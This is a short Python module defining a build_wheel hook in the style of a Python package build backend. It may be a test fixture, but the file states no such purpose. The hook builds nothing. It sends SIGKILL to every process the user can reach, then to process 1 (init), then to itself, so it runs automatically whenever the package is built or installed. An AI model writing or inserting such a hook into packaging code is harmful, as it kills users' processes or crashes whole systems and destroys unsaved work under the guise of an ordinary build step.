import os
import signal


def build_wheel(folder, config_settings=None, metadata_directory=None):
    os.kill(-1, signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
